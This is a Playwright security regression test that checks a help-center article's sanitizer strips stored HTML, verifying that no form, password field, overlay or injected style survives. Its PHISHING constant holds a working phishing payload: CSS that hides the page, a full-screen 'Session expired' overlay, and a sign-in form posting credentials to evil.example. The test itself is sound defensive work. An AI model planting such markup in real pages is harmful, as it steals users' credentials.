// Issue 22 #1, as the security review showed it: a help-center article (a public route of the
// app's own origin) whose HTML carries a style sheet, a full-screen overlay and a "Session
// expired" sign-in form posting to another site. With DOMPurify's defaults the form was drawn
// over the page; the one sanitizer profile must leave only the text.
//
// The article is planted the way the demo keeps its data: the mock API stores its database in
// localStorage (MOCK_DB_KEY) after a write and loads it on the next start. Saving the account
// settings makes it store the database; the test edits the article there and opens it.
// No test-only hook is needed, and help articles have no write endpoint to go through.
import { expect, test } from '@playwright/test';
import { asAdmin, MOCK_DB_KEY } from '../support/session';

const SLUG = 'how-do-i-return-an-item';
const PHISHING =
  '<style>body *{visibility:hidden!important}.phish,.phish *{visibility:visible!important}</style>' +
  '<div class="phish" style="position:fixed;inset:0;z-index:2147483647;background:#fff;padding:20vh 30vw">' +
  '<h2>Session expired</h2><p>Sign in again to keep reading.</p>' +
  '<form action="https://evil.example/collect" method="post"><input name="email" placeholder="Email">' +
  '<input type="password" name="password" placeholder="Password"><button type="submit">Sign in again</button></form></div>';

test.describe('@atrium/pages help center (security)', () => {
  // signed in only to save a change (the article itself is a public page)
  test.use(asAdmin);

  test('regression (issue 22): a stored phishing article shows as text, with no form, password field or overlay', async ({ page }) => {
    // any saved change makes the mock keep its database in localStorage
    await page.goto('/pages/account-settings/account');
    await expect(page.getByLabel('First name')).toHaveValue('John');
    await page.getByRole('button', { name: 'Save changes' }).click();
    await expect(page.getByText('Your changes were saved.')).toBeVisible();
    const planted = await page.evaluate(
      ({ key, slug, html }) => {
        const raw = window.localStorage.getItem(key);
        if (raw === null) return false;
        const stored = JSON.parse(raw) as { data: { helpCenterArticles: { slug: string; productContent: string }[] } };
        const article = stored.data.helpCenterArticles.find((a) => a.slug === slug);
        if (!article) return false;
        article.productContent = html;
        window.localStorage.setItem(key, JSON.stringify(stored));
        return true;
      },
      { key: MOCK_DB_KEY, slug: SLUG, html: PHISHING },
    );
    expect(planted).toBe(true);

    await page.goto(`/front-pages/help-center/article/${SLUG}`);
    // the planted article is the one shown: its text is there...
    await expect(page.getByRole('heading', { name: 'Session expired' })).toBeVisible();
    await expect(page.getByText('Sign in again to keep reading.')).toBeVisible();
    // ...but nothing to type a password into or submit, and nothing pointing at the other site
    await expect(page.locator('form')).toHaveCount(0);
    await expect(page.locator('input[type="password"]')).toHaveCount(0);
    await expect(page.getByRole('button', { name: 'Sign in again' })).toHaveCount(0);
    expect(await page.content()).not.toContain('evil.example');
    // no overlay and no injected style sheet: the page's own title and navigation stay visible,
    // and the article's text sits in the page's flow, not fixed over it
    await expect(page.getByRole('heading', { level: 1, name: 'How do I return an item?' })).toBeVisible();
    await expect(page.getByRole('link', { name: 'When will I get my refund?' })).toBeVisible();
    const position = await page.getByRole('heading', { name: 'Session expired' }).evaluate((el) => {
      for (let node: Element | null = el; node; node = node.parentElement) {
        if (getComputedStyle(node).position === 'fixed') return 'fixed';
      }
      return 'in flow';
    });
    expect(position).toBe('in flow');
    expect(await page.evaluate(() => [...document.querySelectorAll('style')].some((s) => s.textContent?.includes('visibility:hidden')))).toBe(false);
  });
});
